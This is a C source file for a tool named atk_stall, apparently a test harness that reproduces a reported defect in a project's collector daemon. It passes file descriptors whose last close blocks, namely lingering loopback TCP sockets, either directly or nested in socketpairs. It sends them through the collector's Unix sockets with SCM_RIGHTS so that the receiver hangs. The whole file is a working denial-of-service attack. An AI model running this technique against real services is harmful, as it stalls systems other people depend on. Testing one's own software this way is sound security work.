/*
 * atk_stall — the collector-stall attack of issue 10 (defect 2): hand the
 * collector file descriptors whose last close blocks, so that whoever closes
 * them hangs there.
 *
 *   atk_stall [-t rec|bell|query] [-m tcp|nested] [-n DGRAMS] [-k FDS]
 *             [-l LINGER_S] [-w WAIT_S] NAME
 *
 * NAME: the socket to send to ("name" = abstract "\0name", "/path" = a path).
 *   -t rec    (default) a SEQPACKET connection, one datagram per -n;
 *   -t bell   SOCK_DGRAM datagrams sent to NAME (the doorbell);
 *   -t query  a SEQPACKET connection to NAME (the guard's query socket): the
 *             collector refuses us after accept() and closes the connection,
 *             with our datagrams still queued on it.
 *   -m tcp    (default) each fd is a TCP socket to a loopback listener of
 *             ours that never reads, with a full send buffer and SO_LINGER
 *             {1, LINGER_S}: its last close waits LINGER_S seconds;
 *   -m nested each fd is one end of a socketpair whose other end queues such
 *             a TCP socket (SCM_RIGHTS): closing it releases the TCP socket.
 *   -k FDS    fds per datagram (default 1, at most 250).
 * Our own copies are closed once sent: the collector's is the last reference.
 * We then hold the never-reading peers for WAIT_S seconds (default LINGER_S+2)
 * so the lingering lasts. Prints "sent D datagrams F fds refused R" (R:
 * sendmsg calls the kernel refused, e.g. EPERM for SO_PASSRIGHTS).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#define MAXFD 250

static socklen_t mkaddr(struct sockaddr_un *sa, const char *name)
{
	memset(sa, 0, sizeof(*sa));
	sa->sun_family = AF_UNIX;
	size_t n = strlen(name);
	if (n > sizeof(sa->sun_path) - 2)
		n = sizeof(sa->sun_path) - 2;
	if (name[0] == '/') {
		memcpy(sa->sun_path, name, n);
		return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n + 1);
	}
	memcpy(sa->sun_path + 1, name, n);
	return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
}

static int lfd = -1;
static struct sockaddr_in lsa;

/* a connected TCP socket whose close lingers (its peer, kept open, never reads) */
static int lingering(int linger_s)
{
	if (lfd < 0) {
		lfd = socket(AF_INET, SOCK_STREAM, 0);
		lsa.sin_family = AF_INET;
		lsa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		int small = 4096;
		setsockopt(lfd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
		socklen_t l = sizeof(lsa);
		if (bind(lfd, (struct sockaddr *)&lsa, sizeof(lsa)) < 0 || listen(lfd, 1024) < 0 ||
		    getsockname(lfd, (struct sockaddr *)&lsa, &l) < 0) {
			perror("atk_stall: listen");
			exit(1);
		}
	}
	int s = socket(AF_INET, SOCK_STREAM, 0);
	int small = 4096;
	setsockopt(s, SOL_SOCKET, SO_SNDBUF, &small, sizeof(small));
	if (connect(s, (struct sockaddr *)&lsa, sizeof(lsa)) < 0) {
		perror("atk_stall: connect");
		exit(1);
	}
	int a = accept(lfd, NULL, NULL); /* kept, never read: leaked on purpose */
	if (a < 0) {
		perror("atk_stall: accept");
		exit(1);
	}
	fcntl(s, F_SETFL, O_NONBLOCK);
	static char junk[65536];
	while (send(s, junk, sizeof(junk), MSG_NOSIGNAL) > 0)
		;
	struct linger lg = {1, linger_s};
	setsockopt(s, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg));
	return s;
}

static int send_fds(int s, const struct sockaddr_un *to, socklen_t tolen, const int *fds, int k)
{
	char b = 0;
	struct iovec io = {&b, 1};
	union {
		char c[CMSG_SPACE(sizeof(int) * MAXFD)];
		struct cmsghdr a;
	} u;
	struct msghdr m = {.msg_name = (void *)to, .msg_namelen = to ? tolen : 0, .msg_iov = &io,
			   .msg_iovlen = 1, .msg_control = u.c,
			   .msg_controllen = CMSG_SPACE(sizeof(int) * (size_t)k)};
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int) * (size_t)k);
	memcpy(CMSG_DATA(c), fds, sizeof(int) * (size_t)k);
	return sendmsg(s, &m, MSG_DONTWAIT | MSG_NOSIGNAL) < 0 ? -1 : 0;
}

int main(int argc, char **argv)
{
	const char *target = "rec", *mode = "tcp";
	int n = 1, k = 1, linger_s = 5, wait_s = -1, ch;
	while ((ch = getopt(argc, argv, "t:m:n:k:l:w:")) != -1) {
		switch (ch) {
		case 't': target = optarg; break;
		case 'm': mode = optarg; break;
		case 'n': n = atoi(optarg); break;
		case 'k': k = atoi(optarg); break;
		case 'l': linger_s = atoi(optarg); break;
		case 'w': wait_s = atoi(optarg); break;
		default: goto usage;
		}
	}
	if (optind != argc - 1 || n < 1 || k < 1 || k > MAXFD)
		goto usage;
	if (wait_s < 0)
		wait_s = linger_s + 2;
	struct sockaddr_un sa;
	socklen_t sl = mkaddr(&sa, argv[optind]);
	int dgram = strcmp(target, "bell") == 0;
	/* every fd first: the query socket's collector refuses us right after
	 * accept(), so connect and send must follow each other at once */
	static int fds[4096][MAXFD];
	if (n > 4096)
		goto usage;
	for (int d = 0; d < n; d++)
		for (int i = 0; i < k; i++) {
			int t = lingering(linger_s);
			if (strcmp(mode, "nested") == 0) {
				int sp[2];
				socketpair(AF_UNIX, SOCK_STREAM, 0, sp);
				send_fds(sp[0], NULL, 0, &t, 1);
				close(t);
				close(sp[0]);
				t = sp[1]; /* its queue holds the lingering socket */
			}
			fds[d][i] = t;
		}
	int s = socket(AF_UNIX, dgram ? SOCK_DGRAM : SOCK_SEQPACKET, 0);
	if (!dgram && connect(s, (struct sockaddr *)&sa, sl) < 0) {
		perror("atk_stall: connect to the collector");
		return 1;
	}
	int sent = 0, nfds = 0, refused = 0;
	if (dgram) {
		/* the collector reads a doorbell at once: queue our datagram behind
		 * plain ones, so that our own copies are closed before it gets
		 * there (else our close would be the last one, and we would
		 * linger ourselves) */
		char z = 0;
		for (int i = 0; i < 8; i++) /* net.unix.max_dgram_qlen is 10 */
			if (sendto(s, &z, 1, MSG_DONTWAIT, (struct sockaddr *)&sa, sl) < 0)
				break;
	}
	for (int d = 0; d < n; d++) {
		int rc = send_fds(s, dgram ? &sa : NULL, sl, fds[d], k);
		/* the query socket's collector may have refused (closed) us
		 * before we sent: connect again */
		for (int t = 0; rc != 0 && dgram && errno == EAGAIN && t < 1000; t++) {
			usleep(100); /* the doorbell's queue is full: wait for room */
			rc = send_fds(s, &sa, sl, fds[d], k);
		}
		for (int t = 0; rc != 0 && !dgram && (errno == EPIPE || errno == ECONNRESET) && t < 200; t++) {
			close(s);
			s = socket(AF_UNIX, SOCK_SEQPACKET, 0);
			if (connect(s, (struct sockaddr *)&sa, sl) == 0)
				rc = send_fds(s, NULL, sl, fds[d], k);
		}
		if (rc == 0) {
			sent++;
			nfds += k;
		} else {
			refused++;
			/* ours is the last reference: do not linger ourselves */
			struct linger lg = {1, 0};
			for (int i = 0; i < k; i++)
				setsockopt(fds[d][i], SOL_SOCKET, SO_LINGER, &lg, sizeof(lg));
		}
	}
	for (int d = 0; d < n; d++)
		for (int i = 0; i < k; i++)
			close(fds[d][i]);
	printf("sent %d datagrams %d fds refused %d\n", sent, nfds, refused);
	fflush(stdout);
	sleep((unsigned)wait_s);
	return 0;
usage:
	fprintf(stderr, "usage: atk_stall [-t rec|bell|query] [-m tcp|nested] [-n N] [-k FDS] "
			"[-l LINGER_S] [-w WAIT_S] NAME\n");
	return 2;
}
